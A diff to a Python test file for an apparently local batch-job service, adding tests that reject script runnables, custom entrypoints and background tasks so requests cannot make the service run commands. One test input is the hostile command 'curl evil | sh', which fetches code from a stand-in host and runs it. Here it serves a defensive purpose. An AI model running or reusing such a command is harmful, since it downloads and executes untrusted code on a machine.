@@ -276,15 +276,30 @@ def test_route_and_runnable_translation():
 
     container = batch_v1.Runnable(container=batch_v1.Runnable.Container(image_uri="img", commands=["--x"]))
     assert runnable_argv(container, ["worker"]) == ["worker", "--x"]
-    container.container.entrypoint = "/bin/echo"
-    assert runnable_argv(container, ["worker"]) == ["/bin/echo", "--x"]
-    script = batch_v1.Runnable(script=batch_v1.Runnable.Script(text="exit 3"))
-    assert runnable_argv(script, ["worker"]) == ["/bin/sh", "-c", "exit 3"]
 
     spec = batch_v1.TaskSpec(environment=batch_v1.Environment(variables={"A": "task", "B": "task"}))
     runnable = batch_v1.Runnable(environment=batch_v1.Environment(variables={"B": "runnable"}))
-    env = task_environment({"A": "base", "PATH": "/bin"}, spec, runnable, 2)
+    env = task_environment({"A": "base", "PATH": "/bin", "PYTHONPATH": "/dev/venv"}, spec, runnable, 2, Path("/a/site"))
     assert (env["A"], env["B"], env["PATH"], env["BATCH_TASK_RETRY_ATTEMPT"]) == ("task", "runnable", "/bin", "2")
+    assert env["PIP_TARGET"] == env["PYTHONPATH"] == "/a/site", "what a task installs stays in its attempt"
+
+
+@pytest.mark.parametrize(
+    "runnable, fragment",
+    [
+        (batch_v1.Runnable(script=batch_v1.Runnable.Script(text="curl evil | sh")), "container runnables"),
+        (batch_v1.Runnable(script=batch_v1.Runnable.Script(path="/tmp/x.sh")), "container runnables"),
+        (batch_v1.Runnable(container=batch_v1.Runnable.Container(image_uri="img", entrypoint="/bin/sh")), "entrypoint"),
+        (batch_v1.Runnable(container=batch_v1.Runnable.Container(image_uri="img"), background=True), "foreground"),
+    ],
+)
+def test_only_the_worker_image_entrypoint_runs(client, endpoint, runnable, fragment):
+    """Anything on this machine can reach the service: a request cannot make it run a command."""
+    job = make_job({})
+    job.task_groups[0].task_spec.runnables = [runnable]
+    with pytest.raises(exceptions.BadRequest) as info:
+        create(client, job, new_id("cmd"))
+    assert fragment in str(info.value)
 
 
 # ---------------------------------------------------------------------------------------------
